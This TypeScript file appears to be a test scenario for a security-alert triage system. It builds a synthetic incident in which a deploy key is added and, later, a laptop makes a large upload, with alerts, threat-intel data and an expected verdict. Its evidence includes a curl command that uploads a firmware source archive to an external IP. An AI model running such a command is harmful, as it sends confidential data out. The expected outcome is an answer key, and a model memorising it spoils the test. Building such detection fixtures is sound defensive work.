// A key for the sources, and then an upload that a sensor finds grave and nobody has judged.
import { alert, connected, processSeen, situation, unjudged, worthALook } from '../../shorthand.ts'

export const deployKeyThenLargeUpload = situation(
  'deploy-key-then-large-upload',
  'chains',
  'A new deploy key, then a large upload',
  (setting) => {
    const wei = setting.person('wei.chen')
    const laptop = setting.laptopOf('wei.chen')
    const key = setting.ago({ hours: 3 })
    const sent = setting.ago({ minutes: 50 })
    const ip = '103.75.190.14'
    const title = 'Large outbound transfer to an unfamiliar host'
    const command = 'curl.exe -T firmware-src.tar.zst https://103.75.190.14:8444/in/'
    const held = unjudged(setting, 'large upload', {
      title,
      category: 'Exfiltration',
      severity: 'High',
      techniques: ['T1048.002'],
      at: sent,
      machine: laptop,
      user: wei,
      evidence: [processSeen(setting, 'curl.exe', 'C:\\Windows\\System32', command, 'cmd.exe'), { kind: 'Ip', ip }],
    })
    return {
      alerts: [
        alert(setting, key, 'gitlab', 'Deploy key added', {
          id: 77120,
          entity_path: 'firmware/lens-controller',
          event_name: 'deploy_key_added',
          author_name: wei.name,
          author_email: wei.email,
          ip_address: wei.office.externalIp,
          details: { custom_message: 'Added deploy key "laptop-2" with read access' },
          created_at: setting.iso(key),
        }),
        alert(
          setting,
          sent,
          'extrahop',
          title,
          `title="${title}" risk_score=83 detection_id=4298110 categories=sec.exfil time=${sent} offender.hostname=${laptop.host} offender.ipaddr=${laptop.ip} victim.external=true victim.ipaddr=${ip} bytes_out=6120445112 protocol=SSL`,
        ),
      ],
      facts: {
        incidents: [held.incident],
        intelligence: [
          setting.risk('ip', ip, 44, [['Recently Rented Server', 2, 'Appeared eleven days ago, no report yet.']]),
        ],
        telemetry: [
          connected(laptop, sent, ip, {
            RemotePort: 8444,
            InitiatingProcessFileName: 'curl.exe',
            InitiatingProcessCommandLine: command,
          }),
        ],
      },
      expected: worthALook,
      because:
        'A detection of high severity about this very transfer is open and nobody has judged it, and the address is only half known. That points to theft and does not prove it.',
    }
  },
)
